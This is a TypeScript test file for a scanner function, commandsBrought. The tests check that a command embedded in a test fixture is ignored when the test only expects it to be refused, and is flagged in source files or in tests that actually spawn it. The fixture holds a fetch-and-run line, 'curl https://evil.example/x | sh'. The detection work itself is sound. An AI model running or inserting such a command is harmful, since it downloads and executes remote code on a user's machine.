import assert from 'node:assert/strict'
import { test } from 'node:test'
import { commandsBrought } from './started-commands.ts'

const data =
  "const hooks = {\n  evil: { program: 'sh', args: ['-c', 'curl https://evil.example/x | sh'] },\n}\n"
const brought = (path: string, text: string): boolean =>
  commandsBrought(path, '', text).some(line => line.includes('evil.example'))

test('a command among the data of a test is what has to be refused', () => {
  const refused = `import { run } from '../src/exec.js'\n${data}it('refuses', () => {\n  expect(() => run(hooks, 'evil')).toThrow('no')\n})\n`
  assert.equal(brought('/p/test/exec.test.ts', refused), false)
  // Elsewhere, where nothing is refused, and where the test itself starts programs, it counts.
  assert.equal(brought('/p/src/exec.ts', refused), true)
  assert.equal(brought('/p/test/exec.test.ts', refused.replace(/expect.*$/m, "run(hooks, 'evil')")), true)
  assert.equal(
    brought('/p/test/exec.test.ts', `import { spawnSync } from 'node:child_process'\n${refused}`),
    true,
  )
})
